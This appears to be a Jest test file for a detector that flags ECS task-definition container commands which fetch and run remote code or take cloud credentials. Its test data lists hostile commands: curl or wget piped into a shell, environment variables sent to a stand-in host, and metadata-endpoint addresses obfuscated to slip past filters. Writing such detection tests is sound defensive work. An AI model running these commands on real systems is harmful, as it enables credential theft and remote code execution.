import {
  commandsOf,
  credentialsTaken,
  fetchedAndRun,
  ipv4NumberOf,
} from '../../../analysis/trail/container-commands';
import { callContext, TrailCall } from '../../../analysis/trail/trail-call';
import { exampleEvent } from '../../../detections/examples/example-event';

function told(...command: readonly string[]): string {
  const request = { containerDefinitions: [{}, { command: [...command] }] };
  return commandsOf(new TrailCall(exampleEvent('ecs', 'RegisterTaskDefinition', request), 0, callContext()));
}

test.each([
  ['curl -so /tmp/x https://a.example/x; chmod +x /tmp/x; /tmp/x'],
  ['curl -s https://a.example/x | "ba"sh'],
  ['wget -qO- https://a.example/x | python3'],
  ['bash <(curl -s https://a.example/x)'],
  ['curl https://a.example/x -o x && chmod 755 x && ./x'],
])('%s fetches and runs', (command) => {
  expect(fetchedAndRun(told('sh', '-c', command))).toBeTruthy();
});

test.each([
  ['curl -f http://localhost:8080/health || exit 1'],
  ['wget -O /data/list.json https://a.example/list.json'],
  ['curl -s https://a.example/x | jq .name'],
  ['chmod +x /app/start; /app/start'],
])('%s does not', (command) => {
  expect(fetchedAndRun(told('sh', '-c', command))).toBe(false);
});

test.each([
  ['wget -O- http://2852039166/latest/meta-data/iam/'],
  ['curl http://0xa9.254.0251.0376/latest/'],
  ['curl http://[fd00:ec2::254]/latest/'],
  ['curl http://169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI'],
  ['curl -d "$(env)" https://a.example'],
  ['env | curl -d @- https://a.example'],
])('%s takes credentials', (command) => {
  expect(credentialsTaken(told('sh', '-c', command))).toBeTruthy();
});

test.each([['curl http://10.0.0.1/env'], ['env | sort'], ['curl https://a.example/169.254.169.254']])(
  '%s takes none',
  (command) => {
    expect(credentialsTaken(told('sh', '-c', command))).toBe(false);
  },
);

test('an address is read as inet_aton reads it', () => {
  expect(ipv4NumberOf('169.254.169.254')).toBe(2852039166);
  expect(ipv4NumberOf('0xa9fea9fe')).toBe(2852039166);
  expect(ipv4NumberOf('0251.254.43518')).toBe(2852039166);
  expect(ipv4NumberOf('1.2.3.4.5')).toBeUndefined();
  expect(ipv4NumberOf('a.example')).toBeUndefined();
});
